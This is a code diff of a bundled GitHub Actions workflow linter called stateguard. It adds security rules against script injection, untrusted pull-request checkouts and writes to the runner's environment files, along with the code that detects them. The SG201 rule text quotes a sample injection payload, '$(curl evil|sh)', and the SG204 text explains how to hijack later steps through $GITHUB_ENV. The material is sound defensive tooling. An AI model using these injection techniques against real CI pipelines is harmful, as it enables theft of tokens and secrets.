+            'backup it restores: the same input feeds `backup-ref` and `confirm`, or the confirm reads the backup input, ' +
+            'an `env:` or shell variable set from it, or a step output computed from it (`${{ inputs.backup_ref }}`, ' +
+            '`${{ format(…, inputs.backup_ref) }}`, `--confirm "$(basename "$BACKUP_REF")"`, `--confirm "$BACKUP_REF"`).',
+        why: "A restore replaces a module's data with a backup. Its confirm is the backup's file name (e.g. " +
+            '`store-20261129T120000Z.tar.gz`) typed by the operator separately from the backup reference, so that a ' +
+            'mistyped or wrong backup is refused before anything is stopped. A workflow that derives the confirm from the ' +
+            'backup reference always confirms whatever backup was named: the check no longer checks anything.',
+        fix: 'Give the confirm its own `workflow_dispatch` input, `required: true` with no `default` (e.g. ' +
+            '`restore_confirm`, described as "type the backup\'s file name exactly"), and pass it as ' +
+            '`confirm: ${{ inputs.restore_confirm }}` (in a `run:`, through `env:` as `--confirm "$CONFIRM"`). See ' +
+            '`workflows/restore.yml`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG201',
+        name: 'script-injection',
+        severity: 'error',
+        summary: 'An expression that reads untrusted data (`github.event.*`, `github.head_ref`, `inputs.*`, a whole context as ' +
+            'in `toJSON(github.event)`, `env.X` where X was set from such data at workflow, job or step level, a step ' +
+            'output of a step that reads such data, a job output or matrix value built from it) is interpolated into a ' +
+            '`run:` script or an input that an action runs as code (actions/github-script `script`, azure/cli ' +
+            '`inlineScript`, mikefarah/yq `cmd`, \u2026: the table in docs/rules.md). Values that cannot carry a payload ' +
+            '(numbers, ids, SHAs and booleans of the event, the result of a comparison or of ' +
+            '`contains()`/`startsWith()`/`endsWith()`, `boolean`/`number`/`choice` inputs) are not untrusted. Context ' +
+            "names are case-insensitive, as in GitHub's expression parser.",
+        why: 'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or ' +
+            "title such as `$(curl evil|sh)` runs as code with the job's token and secrets.",
+        fix: 'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use ' +
+            '`"$TITLE"` (or `process.env.TITLE`) in the script.',
+        coveredBy: 'Partly. actionlint reports untrusted `github.event.*`/`github.head_ref` inputs in `run:` and github-script; ' +
+            "zizmor's template-injection audit reports expressions in `run:` more broadly (its own set of contexts and " +
+            'confidence levels). Following the taint through `env:` into `${{ env.X }}` and treating `inputs.*` as ' +
+            "untrusted is stateguard's.",
+    },
+    {
+        id: 'SG202',
+        name: 'permissions',
+        severity: 'error',
+        summary: 'The workflow has no top-level `permissions`, or grants `write-all` (top level or job).',
+        why: 'Without `permissions` the token gets the repository default, often write to everything; a compromised step ' +
+            'can then push code or rewrite workflows.',
+        fix: 'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job ' +
+            'only where needed (e.g. `pull-requests: write` for the plan comment).',
+        coveredBy: "zizmor's excessive-permissions audit (missing or broad permissions); actionlint only checks that permission " +
+            'scopes are valid.',
+    },
+    {
+        id: 'SG203',
+        name: 'untrusted-checkout',
+        severity: 'error',
+        summary: '`pull_request_target`, `workflow_run` or `issue_comment` together with an actions/checkout of the pull ' +
+            "request's head or merge commit (`refs/pull/…`, `merge_commit_sha`), or a `run:` that fetches it " +
+            '(`gh pr checkout`, `git fetch … pull/<n>/head`).',
+        why: "Those triggers run with the base repository's secrets and a write token; checking out the PR head then " +
+            'runs the contributor\'s code with them ("pwn request").',
+        fix: "Use the `pull_request` trigger for anything that builds or runs the PR's code, or check out only the base " +
+            'ref in the privileged workflow.',
+        coveredBy: "zizmor's dangerous-triggers audit flags `pull_request_target`/`workflow_run` themselves (more broadly); " +
+            'actionlint does not.',
+    },
+    {
+        id: 'SG301',
+        name: 'action-not-pinned',
+        severity: 'warning',
+        summary: '`uses:` does not pin the action or reusable workflow to a full 40-character commit SHA.',
+        why: 'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs ' +
+            'with your secrets.',
+        fix: 'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local ' +
+            '`./` actions and `docker://` images with a `@sha256:` digest are exempt.',
+        coveredBy: "zizmor's unpinned-uses audit; actionlint does not.",
+    },
+    // --- issue 29, repository part: local composite actions, modules/, placeholder pins ---
+    {
+        id: 'SG003',
+        name: 'local-action-unreadable',
+        severity: 'error',
+        summary: 'A step uses a local action (`uses: ./path`) that cannot be checked: it does not exist, has no readable ' +
+            '`action.yml`/`action.yaml` (missing, larger than 1 MiB, not valid YAML, no `runs.using`), leaves the ' +
+            'repository (`./../…` or a symbolic link), calls itself, or is nested deeper than 8 local actions (or more ' +
+            'than 512 uses are followed from one workflow).',
+        why: "A composite action's steps run in the workflow's job, with its token and secrets: an injection or a " +
+            "volume removal in them is the workflow's. stateguard follows local actions to check them (with the " +
+            'values the caller passes as their inputs); one it cannot read is a "no", not a pass.',
+        fix: 'Correct the `uses:` path, keep the action inside the repository with a readable `action.yml` that declares ' +
+            '`runs.using`, and remove cycles or flatten deep nesting. An action an earlier step checks out (another ' +
+            'repository into `./path`) cannot be read when linting: suppress SG003 on that line with the reason.',
+        coveredBy: 'Neither actionlint nor zizmor refuses an unreadable local action; actionlint reads local actions for their ' +
+            'inputs, and both follow them less far.',
+    },
+    {
+        id: 'SG109',
+        name: 'stateful-change-outside-stateguard',
+        severity: 'error',
+        summary: 'In a repository with `modules/`, a `run:` pulls or (re)creates the service of a stateful module outside ' +
+            'stateguard: `docker compose pull|up` or `docker-compose pull|up` naming the service (or no service, in the ' +
+            "module's project or compose file), or `docker stack deploy` of its stack. A project, file or service given " +
+            'by a variable counts as the module.',
+        why: "Pulling a new image or recreating a stateful module's container changes its data with no guard, no verified " +
+            'backup and no consent: the change stateguard exists to guard, done around it (for example by a scheduled ' +
+            '"refresh" job).',
+        fix: "Change stateful modules only with stateguard's `upgrade` or `apply` from a `workflow_dispatch` workflow; " +
+            'leave their services out of other compose commands (name the stateless services), or suppress a deliberate ' +
+            'exception with its reason.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG110',
+        name: 'unknown-module',
+        severity: 'error',
+        summary: 'In a repository with `modules/`, a stateguard action step (`with: module: X`) or CLI call (`stateguard ' +
+            '<command> --module X`) names a module that no `modules/*/module.yaml` declares.',
+        why: 'The run would be refused at the last moment (or, after a rename, aim at a module that no longer exists): a ' +
+            'mistyped module name in a workflow is found before anyone depends on it.',
+        fix: 'Correct the module name to one declared under `modules/`, or add the module.yaml it names.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG111',
+        name: 'placeholder-pin',
+        severity: 'error',
+        summary: 'A workflow in a directory the runner reads (`.github/workflows`, `.forgejo/workflows`, `.gitea/workflows`) ' +
+            'pins an action to the placeholder commit `@0000000000000000000000000000000000000000`.',
+        why: "The ready-to-copy templates in stateguard's `workflows/` carry that placeholder on purpose, with a comment " +
+            'asking you to pin the release you audited; copied as is, the runner cannot fetch the action and the ' +
+            'workflow fails when it is needed. Templates outside those directories are linted as templates.',
+        fix: 'Replace the zeros with the commit SHA of the stateguard release you audited: ' +
+            '`uses: <owner>/stateguard/actions/<name>@<40-hex-sha> # v1`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    // --- issue 29, lint-taint: attacker data written to the runner's environment files ---
+    {
+        id: 'SG204',
+        name: 'env-file-injection',
+        severity: 'error',
+        summary: 'In a workflow triggered by `pull_request_target`, `issue_comment` or `workflow_run`, a `run:` writes ' +
+            'attacker data (`github.event.*`, `github.head_ref`, a string input, `$GITHUB_EVENT_PATH`, or a variable, ' +
+            'step output or job output set from them) to `$GITHUB_ENV`, `$GITHUB_OUTPUT` or `$GITHUB_PATH`.',
+        why: "Those triggers run with the base repository's secrets and a write token on an outsider's event. A value " +
+            'written to `$GITHUB_ENV` can hold a newline and set any variable (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`) ' +
+            "for every later step; one written to `$GITHUB_PATH` puts a directory of the attacker's choosing first on " +
+            'the PATH; one written to `$GITHUB_OUTPUT` can set other outputs that later steps trust.',
+        fix: 'Do not write the value to these files: pass it through `env:` to the step that needs it and quote it there ' +
+            '(`"$TITLE"`), or check it against a strict pattern first (e.g. `[[ "$N" =~ ^[0-9]+$ ]]`) and write only ' +
+            'what passed; numbers, SHAs and booleans of the event are not attacker data.',
+        coveredBy: "zizmor's github-env audit reports writes to `GITHUB_ENV`/`GITHUB_PATH` under dangerous triggers; " +
+            "actionlint does not. Following the data through step and job outputs and shell variables is stateguard's.",
+    },
+];
+const BY_ID = new Map(RULES.map((r) => [r.id, r]));
+function ruleById(id) {
+    return BY_ID.get(id);
+}
+function compareProblems(a, b) {
+    return a.file < b.file
+        ? -1
+        : a.file > b.file
+            ? 1
+            : a.line - b.line ||
+                a.column - b.column ||
+                (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
+}
+
+;// CONCATENATED MODULE: ./src/lint/derived.ts
+/**
+ * What a value given to a stateguard step is computed from (docs/rules.md, SG108): the workflow
+ * inputs it reads, the variables it passes through (`env:` at every level, assignments in the
+ * `run:` script) and the steps whose outputs it reads, followed to where they come from. Two values
+ * sharing an origin are derived from the same thing: a restore confirm computed from the backup
+ * reference is no separate confirmation. Pure; never throws on a malformed workflow.
+ */
+
+const MAX_DEPTH = 16;
+const derived_isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
+/** `$NAME` and `${NAME…}` anywhere in shell text, `$( … )` included. */
+const derived_SHELL_VAR = /\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{#?([A-Za-z_][A-Za-z0-9_]*))/g;
+/** The origins of a YAML value (a `with:` or `env:` value): what its `${{ }}` expressions read. */
+function valueOrigins(value, scope, depth = 0) {
+    const out = new Set();
+    if (typeof value !== 'string' || depth > MAX_DEPTH)
+        return out;
+    for (const m of value.matchAll(EXPRESSION)) {
+        const list = accesses(m[1]);
+        if (list === null) {
+            // Unparsable (an SG000 error already): read the names as text, case-insensitively.
+            for (const t of m[1].matchAll(/\binputs\s*\.\s*([A-Za-z_][\w-]*)/gi))
+                out.add(`input:${t[1].toLowerCase()}`);
+            for (const t of m[1].matchAll(/(?:^|[^\w.])env\s*\.\s*([A-Za-z_][\w-]*)/gi))
+                for (const o of envOrigins(t[1], scope, depth))
+                    out.add(o);
+            continue;
+        }
+        for (const a of list)
+            for (const o of accessOrigins(a, scope, depth))
+                out.add(o);
+    }
+    return out;
+}
+function accessOrigins(a, scope, depth) {
+    const [k0, k1, k2] = a.keys.map((k) => (k === null ? null : k?.toLowerCase()));
+    if (a.root === 'inputs')
+        return new Set([k0 ? `input:${k0}` : 'input:*']);
+    if (a.root === 'github') {
+        // github.event.inputs.X is the dispatch input X; the whole event (or github itself) holds every input.
+        if (k0 === undefined || k0 === null)
+            return new Set(['input:*']);
+        if (k0 !== 'event')
+            return new Set();
+        if (k1 === undefined || k1 === null)
+            return new Set(['input:*']);
+        if (k1 !== 'inputs')
+            return new Set();
+        return new Set([k2 ? `input:${k2}` : 'input:*']);
+    }
+    if (a.root === 'env') {
+        if (!a.keys[0])
+            return anyEnvOrigins(scope, depth);
+        return envOrigins(a.keys[0], scope, depth);
+    }
+    if (a.root === 'steps' && a.keys[0]) {
+        const id = a.keys[0];
+        const step = scope.stepOrigins?.(id);
+        return new Set([`step:${id.toLowerCase()}`, ...(step ?? [])]);
+    }
+    return new Set();
+}
+/** `${{ env.NAME }}`: the variable (case-insensitive, innermost `env:` first) and what it was set from. */
+function envOrigins(name, scope, depth) {
+    const chain = scope.envChain;
+    for (let level = 0; level < chain.length; level++) {
+        const env = chain[level];
+        if (!derived_isObj(env))
+            continue;
+        const key = Object.keys(env).find((k) => k.toLowerCase() === name.toLowerCase());
+        if (key === undefined)
+            continue;
+        const outer = { ...scope, envChain: chain.slice(level + 1) };
+        return new Set([`var:${key}`, ...valueOrigins(env[key], outer, depth + 1)]);
+    }
+    return new Set();
+}
+/** `toJSON(env)`: every variable in scope. */
+function anyEnvOrigins(scope, depth) {
+    const out = new Set();
+    for (const env of scope.envChain)
+        if (derived_isObj(env))
+            for (const k of Object.keys(env))
+                out.add(k);
+    return new Set([...out].flatMap((k) => [...envOrigins(k, scope, depth)]));
+}
+/**
+ * The origins of a shell word as written (`"$B"`, `$(basename "$B")`, `${B%.tar.gz}`, `x-${{ inputs.b }}`):
+ * every variable it expands — its assignments in the script first, then `env:` (case-sensitive, as
+ * the shell reads it) — and every expression in it. A variable defined nowhere (the runner's own,
+ * e.g. `$RUNNER_TEMP`) is no origin: it is the same for every value and ties none together.
+ */
+function shellOrigins(text, scope, depth = 0, seen = new Set()) {
+    const out = valueOrigins(text, scope, depth);
+    if (depth > MAX_DEPTH)
+        return out;
+    for (const m of text.matchAll(derived_SHELL_VAR)) {
+        const name = m[1] ?? m[2];
+        if (seen.has(name))
+            continue;
+        seen.add(name);
+        const assigned = scope.shellVars?.get(name);
+        if (assigned) {
+            out.add(`var:${name}`);
+            for (const v of assigned)
+                for (const o of shellOrigins(v, scope, depth + 1, seen))
+                    out.add(o);
+        }
+        for (let level = 0; level < scope.envChain.length; level++) {
+            const env = scope.envChain[level];
+            if (!derived_isObj(env) || !Object.hasOwn(env, name))
+                continue;
+            out.add(`var:${name}`);
+            const outer = { ...scope, envChain: scope.envChain.slice(level + 1) };
+            for (const o of valueOrigins(env[name], outer, depth + 1))
+                out.add(o);
+            break;
+        }
+    }
+    return out;
+}
+/**
+ * The origin two sets share, preferring the most telling (an input, then a step, then a variable),
+ * or undefined. `input:*` (every input) shares any input.
+ */
+function sharedOrigin(a, b) {
+    const common = [...a].filter((o) => b.has(o));
+    const anyInput = (s) => [...s].find((o) => o.startsWith('input:'));
+    if (a.has('input:*') && anyInput(b))
+        common.push(anyInput(b));
+    if (b.has('input:*') && anyInput(a))
+        common.push(anyInput(a));
+    const rank = (o) => (o.startsWith('input:') ? 0 : o.startsWith('step:') ? 1 : 2);
+    return common.sort((x, y) => rank(x) - rank(y) || (x < y ? -1 : x > y ? 1 : 0))[0];
+}
+/** An origin for a message: `input 'backup_ref'`, `variable BACKUP_REF`, `the outputs of step 'pick'`. */
+function describeOrigin(o) {
+    const [kind, ...rest] = o.split(':');
+    const name = rest.join(':');
+    if (kind === 'input')
+        return name === '*' ? 'every workflow input' : `input '${name}'`;
+    if (kind === 'step')
+        return `the outputs of step '${name}'`;
+    return `variable ${name}`;
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules/pr-code-fetch.ts
+/**
+ * SG203 untrusted-checkout, in `run:` (docs/rules.md SG203, docs/architecture.md §9): a workflow
+ * that runs with the base repository's secrets and a write token (`pull_request_target`,
+ * `workflow_run`, `issue_comment`) and fetches the pull request's code in a script: `gh pr checkout`,
+ * `git fetch|pull|checkout|switch … pull/<n>/head|merge` or `refs/pull/…`. The `actions/checkout`
+ * form is checked in checks.ts.
+ */
+
+/** Triggers whose runs hold the base repository's secrets while a pull request's author controls data. */
+const pr_code_fetch_PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];
+/** A refspec or ref naming a pull request's head or merge commit: `pull/12/head`, `refs/pull/$N/merge`. */
+const PR_REF = /(?:^|[\s:+/])(?:refs\/)?pull\/[^/\s]+\/(?:head|merge)\b|refs\/pull\//;
+const GIT_FETCHING = new Set(['fetch', 'pull', 'checkout', 'switch', 'worktree', 'reset', 'merge', 'rebase']);
+/** git global options that take a value (so the value is not read as the subcommand). */
+const GIT_VALUE = new Set(['-C', '-c', '--git-dir', '--work-tree', '--namespace', '--exec-path']);
+/** What a command does to fetch a pull request's code, or undefined. */
+function fetchesPrCode(argv) {
+    const words = argv.map((w) => w.text);
+    const prog = words[0].slice(words[0].lastIndexOf('/') + 1).toLowerCase();
+    if (prog === 'gh') {
+        const rest = [];
+        for (let i = 1; i < words.length; i++) {
+            if (words[i] === '-R' || words[i] === '--repo')
+                i++;
+            else if (!words[i].startsWith('-'))
+                rest.push(words[i]);
+        }
+        if (rest[0] === 'pr' && rest[1] === 'checkout')
+            return 'gh pr checkout';
+        return undefined;
+    }
+    if (prog !== 'git')
+        return undefined;
+    let i = 1;
+    while (i < words.length && words[i].startsWith('-'))
+        i += GIT_VALUE.has(words[i]) ? 2 : 1;
+    const sub = words[i];
+    if (!sub || !GIT_FETCHING.has(sub))
+        return undefined;
+    return words.slice(i + 1).some((w) => PR_REF.test(w)) ? `git ${sub} of a pull request ref` : undefined;
+}
+function checkPrCodeFetch(triggers, sites, report) {
+    const privileged = triggers.filter((t) => pr_code_fetch_PRIVILEGED_TRIGGERS.includes(t));
+    if (privileged.length === 0)
+        return;
+    for (const site of sites) {
+        if (!/\bgh\b|\bgit\b/.test(site.run))
+            continue;
+        for (const c of commandsOf(site.run, site.env)) {
+            const what = fetchesPrCode(c.argv);
+            if (!what)
+                continue;
+            const first = c.argv[0];
+            report('SG203', site.at(first.start, first.text), `${site.where} fetches the pull request's code ('${c.argv
+                .map((w) => w.text)
+                .join(' ')}': ${what}) in a workflow triggered by ${privileged.join(', ')}, which runs with secrets and ` +
+                `a write token; build or run the pull request's code in a 'pull_request' workflow instead, and fetch ` +
+                `only the base ref here`);
+        }
+    }
+}
+
 ;// CONCATENATED MODULE: ./src/lint/checks.ts
+
+
+
+
 
 
 
@@ -19706,14 +20464,14 @@ function checkWorkflow(wf) {
                 continue;
             const first = c.argv[0];
             report('SG106', wf.positionInValue([...s.path, 'run'], first.start, first.text), `'${c.argv.map((w) => w.text).join(' ')}' in step ${s.index + 1} of job '${s.jobId}' ${effect}: the data ` +
-                `stateguard protects`);
+                `stateguard protects; drop the flag, and change stateful services only through stateguard`);
         }
     }
     // SG107: an automatic trigger dispatching a workflow with consent filled in.
     if (automatic.length > 0) {
         const why = `in a workflow that runs on ` +
             `${automatic.map((t) => `'${t}'`).join(', ')}: consent filled in by automation is no consent; only an operator ` +
-            `dispatching by hand may give it`;
+            `dispatching by hand may give it: dispatch without consent inputs`;
         for (const s of allSteps) {
             for (const c of s.commands) {
                 const hit = dispatchWithConsent(c.argv);
@@ -19728,35 +20486,46 @@ function checkWorkflow(wf) {
             }
         }
     }
-    // SG201: script injection in run: and github-script's script:, read from the expression's AST;
-    // env: values set from untrusted data taint `${{ env.X }}` (workflow, job, step level).
-    const wfTaint = envTaint(root.env, new Set());
+    // SG201: script injection in run: and in inputs that are code (src/lint/code-inputs.ts), read from
+    // the expression's AST; taint flows through env:, step and job outputs and matrices, and values
+    // that cannot carry a payload are not taint (src/lint/taint.ts, docs/architecture.md §9).
+    const flow = taintFlow(root);
     for (const j of jobs) {
-        const jobTaint = envTaint(j.job.env, wfTaint);
         for (const s of j.steps) {
-            const taint = envTaint(s.step.env, jobTaint);
+            const scope = flow.stepScope(j.id, s.index);
             const targets = [];
             if (typeof s.step.run === 'string')
                 targets.push({ path: [...s.path, 'run'], text: s.step.run, what: 'a run: script' });
-            const script = githubScript(s.step);
-            if (script !== undefined)
-                targets.push({ path: [...s.path, 'with', 'script'], text: script, what: 'a github-script script:' });
+            for (const c of codeInputsOf(s.step))
+                targets.push({
+                    path: [...s.path, 'with', c.entry.input],
+                    text: c.text,
+                    what: `the '${c.entry.input}' input of ${c.entry.action} (run as ${c.entry.language})`,
+                });
             for (const t of targets) {
                 if (!t.text.includes('${{'))
                     continue;
                 let k = 0;
                 for (const m of t.text.matchAll(EXPRESSION)) {
-                    const reads = untrustedReads(m[1], taint);
+                    const reads = taintedReads(m[1], scope);
                     if (reads.length > 0) {
-                        report('SG201', wf.positionInScalar(t.path, EXPRESSION, k), `\${{${m[1]}}} is interpolated into ` +
+                        report('SG201', wf.positionInScalar(t.path, EXPRESSION, k), `\${{${m[1].replace(/\s+/g, ' ')}}} is interpolated into ` +
                             `${t.what} of step ${s.index + 1} in job '${s.jobId}' (script injection: it reads ` +
-                            `${[...new Set(reads)].join(', ')}); pass it through env: and use the variable instead`);
+                            `${reads.join(', ').replace(/\s+/g, ' ')}); pass it through env: and use the variable instead`);
                     }
                     k++;
                 }
             }
         }
     }
+    // SG204 (lint-taint): attacker data written to $GITHUB_ENV/$GITHUB_OUTPUT/$GITHUB_PATH under a privileged trigger.
+    checkEnvFileInjection(triggers, allSteps.map((s) => ({
+        jobId: s.jobId,
+        index: s.index,
+        step: s.step,
+        runPath: [...s.path, 'run'],
+        scope: flow.stepScope(s.jobId, s.index),
+    })), (path, offset, needle) => wf.positionInValue(path, offset, needle), (pos, message) => report('SG204', pos, message));
     // SG202: least-privilege token.
     if (!('permissions' in root)) {
         report('SG202', { line: 1, column: 1 }, "the workflow has no top-level 'permissions'; declare the least it needs, e.g. 'permissions: { contents: read }'");
@@ -19770,7 +20539,7 @@ function checkWorkflow(wf) {
         }
     }
     // SG203: privileged triggers with a checkout of the PR head.
-    const privileged = triggers.filter((t) => t === 'pull_request_target' || t === 'workflow_run');
+    const privileged = triggers.filter((t) => pr_code_fetch_PRIVILEGED_TRIGGERS.includes(t));
     if (privileged.length > 0) {
         for (const s of allSteps) {
             if (typeof s.step.uses !== 'string' || !/^actions\/checkout@/i.test(s.step.uses.trim()) || !checks_isObj(s.step.with))
@@ -19780,7 +20549,8 @@ function checkWorkflow(wf) {
                 if (typeof v === 'string' && PR_HEAD.test(v)) {
                     report('SG203', wf.at([...s.path, 'with', key]), `step ${s.index + 1} of job '${s.jobId}' checks out the pull request head ` +
                         `(${key}: ${v}) in a workflow triggered by ` +
-                        `${privileged.join(', ')}, which runs with secrets and a write token`);
+                        `${privileged.join(', ')}, which runs with secrets and a write token; use the 'pull_request' trigger ` +
+                        `for anything that builds or runs the pull request's code, or check out only the base ref here`);
                 }
             }
         }
@@ -19827,6 +20597,8 @@ const PR_HEAD = new RegExp([
     String.raw `github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*head_`,
     String.raw `\bhead_ref\b`,
     String.raw `refs\/pull\/`,
+    // issue 29: the merge commit of the pull request is its code too (docs/rules.md SG203)
+    String.raw `github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*merge_commit_sha`,
 ].join('|'));
 /** A concurrency group whose expressions read the run's own id, number or attempt. */
 function perRun(group) {
@@ -19850,6 +20622,102 @@ function triggerNames(on) {
     return [];
 }
 
+;// CONCATENATED MODULE: ./src/lint/messages.ts
+/**
+ * The last touch on every lint-workflows message (docs/rules.md, docs/architecture.md §9): one line
+ * (a raw newline, e.g. from GitHub's parser or a quoted script, would split the `file:line:col`
+ * output and the job log annotation) ending in the rule's section of docs/rules.md, where its fix is.
+ */
+
+/** The GitHub anchor of a rule's section `## SG201 script-injection`: `sg201-script-injection`. */
+function ruleAnchor(id) {
+    return `${id} ${ruleById(id).name}`.toLowerCase().replace(/\s+/g, '-');
+}
+function finishMessage(p) {
+    const ref = `docs/rules.md#${ruleAnchor(p.rule)}`;
+    const oneLine = p.message.replace(/\s*(?:\r\n|\r|\n|\u2028|\u2029)\s*/g, ' ').trim();
+    return { ...p, message: oneLine.endsWith(`(${ref})`) ? oneLine : `${oneLine} (${ref})` };
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules/context.ts
+
+const context_isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
+function stepsOf(wf) {
+    const out = [];
+    const root = wf.value;
+    if (!context_isObj(root.jobs))
+        return out;
+    for (const [jobId, job] of Object.entries(root.jobs)) {
+        if (!context_isObj(job) || !Array.isArray(job.steps))
+            continue;
+        job.steps.forEach((step, index) => {
+            if (context_isObj(step))
+                out.push({
+                    jobId,
+                    index,
+                    step,
+                    path: ['jobs', jobId, 'steps', index],
+                    envChain: [step.env, job.env, root.env],
+                    job,
+                });
+        });
+    }
+    return out;
+}
+/** Literal env values a script can read (`$COMPOSE_PROJECT_NAME`), outermost first, inner ones win. */
+function literalEnvOf(chain) {
+    const out = new Map();
+    for (const env of [...chain].reverse()) {
+        if (!context_isObj(env))
+            continue;
+        for (const [k, v] of Object.entries(env)) {
+            if (typeof v === 'string' && !v.includes('${{'))
+                out.set(k, v);
+            else if (typeof v === 'number' || typeof v === 'boolean')
+                out.set(k, String(v));
+            else
+                out.delete(k);
+        }
+    }
+    return out;
+}
+function workingDirectoryOf(step, job) {
+    const defaults = context_isObj(job.defaults) && context_isObj(job.defaults.run) ? job.defaults.run['working-directory'] : undefined;
+    const wd = step['working-directory'] ?? defaults;
+    if (wd === undefined || wd === null)
+        return '';
+    if (typeof wd !== 'string' || wd.includes('${{'))
+        return undefined;
+    return wd;
+}
+/** The `run:` scripts of the workflow's own steps. */
+function workflowRunSites(wf) {
+    return stepsOf(wf)
+        .filter((s) => typeof s.step.run === 'string')
+        .map((s) => ({
+        jobId: s.jobId,
+        index: s.index,
+        run: s.step.run,
+        env: literalEnvOf(s.envChain),
+        workingDirectory: workingDirectoryOf(s.step, s.job),
+        where: `step ${s.index + 1} of job '${s.jobId}'`,
+        at: (offset, needle) => wf.positionInValue([...s.path, 'run'], offset, needle),
+    }));
+}
+function reporter(file, problems) {
+    return (rule, pos, message) => problems.push({ file, line: pos.line, column: pos.column, rule, severity: ruleById(rule).severity, message });
+}
+/** The workflow's triggers (the same reading as checks.ts). */
+function triggersOf(on) {
+    if (typeof on === 'string')
+        return [on];
+    if (Array.isArray(on))
+        return on.filter((t) => typeof t === 'string');
+    if (context_isObj(on))
+        return Object.keys(on);
+    return [];
+}
+
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var yaml_dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./src/lint/workflow.ts
@@ -19867,6 +20735,9 @@ class WorkflowFile {
     lines;
     value;
     lineStarts;
+    /** matches of positionInScalar's pattern visited so far: a test's measure that placing findings stays linear */
+    scanned = 0;
+    matchOffsets = new Map();
     constructor(file, text, doc, lines, value) {
         this.file = file;
         this.text = text;
@@ -19942,14 +20813,21 @@ class WorkflowFile {
         const raw = this.rawScalar(path);
         if (!raw)
             return this.at(path);
-        const re = new RegExp(pattern.source, pattern.flags.includes('g') ? pattern.flags : pattern.flags + 'g');
-        let k = 0;
-        for (const m of raw.raw.matchAll(re)) {
-            if (k === occurrence)
-                return this.position(raw.start + m.index);
-            k++;
+        // The match offsets are found once per scalar and pattern, so placing every finding of a long
+        // script stays linear (docs/architecture.md §9).
+        const cacheKey = `${JSON.stringify(path)}\u0000${pattern.source}\u0000${pattern.flags}`;
+        let offsets = this.matchOffsets.get(cacheKey);
+        if (!offsets) {
+            const re = new RegExp(pattern.source, pattern.flags.includes('g') ? pattern.flags : pattern.flags + 'g');
+            offsets = [];
+            for (const m of raw.raw.matchAll(re)) {
+                this.scanned++;
+                offsets.push(m.index);
+            }
+            this.matchOffsets.set(cacheKey, offsets);
         }
-        return this.position(raw.start);
+        const at = offsets[occurrence];
+        return this.position(raw.start + (at ?? 0));
     }
     /**
      * Position of character `offset` of the scalar's VALUE (e.g. a word found by reading a `run:`
@@ -20051,12 +20929,581 @@ function loadWorkflow(bytes, displayName) {
     return { ok: true, workflow: new WorkflowFile(displayName, text, doc, lines, value) };
 }
 
+;// CONCATENATED MODULE: ./src/lint/rules/local-actions.ts
+/**
+ * Local composite actions (docs/rules.md SG003 and SG201, docs/architecture.md §9): a step's
+ * `uses: ./path` is followed into `<path>/action.yml` (or `action.yaml`), read as safely as a
+ * workflow (size cap, strict UTF-8, one document, bounded aliases: the same reader), and a composite
+ * action's `runs.steps` are checked with the caller's context: the `with:` values it passes become
+ * the action's `inputs.*`, the calling job's `env:` stays visible. A problem found in the action is
+ * the workflow's, reported at the caller's `uses:` and naming the action file's line. An action that
+ * is missing, unreadable, outside the repository, nested too deep, in a cycle or beyond the budget
+ * is itself a problem (SG003), never skipped.
+ */
+
+
+
+
+
+
+
+
+/** Nesting of local actions followed (GitHub itself stops composite actions at about ten levels). */
+const MAX_LOCAL_ACTION_DEPTH = 8;
+/**
+ * Local action uses followed for one workflow, at most, counting each use inside an action again (a
+ * wide fan-out of nested actions cannot make the lint explode; a workflow with many jobs using the
+ * same few actions stays well under it).
+ */
+const MAX_LOCAL_ACTIONS = 512;
+function readsOf(body, judge) {
+    const list = accesses(body);
+    if (list === null) {
+        // Unparsable: err towards untrusted, as for a workflow.
+        const text = untrustedReads(body, judge.env);
+        return text.length > 0 || /\binputs\b/i.test(body) ? [body.trim()] : [];
+    }
+    const out = [];
+    for (const a of list) {
+        if (a.root === 'inputs' && judge.inputs !== 'all') {
+            const k = a.keys[0];
+            if (k === undefined || k === null) {
+                if (judge.inputs.size > 0)
+                    out.push(describeAccess(a));
+            }
+            else {
+                const from = judge.inputs.get(k.toLowerCase());
+                if (from)
+                    out.push(`${describeAccess(a)} (given ${[...new Set(from)].join(', ')})`);
+            }
+        }
+        else if (untrusted(a, judge.env))
+            out.push(describeAccess(a));
+    }
+    return out;
+}
+function readsOfValue(value, judge) {
+    if (typeof value !== 'string' || !value.includes('${{'))
+        return [];
+    return [...value.matchAll(EXPRESSION)].flatMap((m) => readsOf(m[1], judge));
+}
+/** envTaint over a composite step's env:, judging its `inputs.*` reads by the action's inputs. */
+function stepEnvTaint(env, outer, judge) {
+    if (!context_isObj(env))
+        return envTaint(env, outer);
+    const next = new Set(outer);
+    for (const [k, v] of Object.entries(env)) {
+        if (readsOfValue(v, { ...judge, env: outer }).length > 0)
+            next.add(k.toLowerCase());
+        else
+            next.delete(k.toLowerCase());
+    }
+    return next;
+}
+function local_actions_githubScript(step) {
+    return typeof step.uses === 'string' &&
+        /^actions\/github-script@/i.test(step.uses.trim()) &&
+        context_isObj(step.with) &&
+        typeof step.with.script === 'string'
+        ? step.with.script
+        : undefined;
+}
+/**
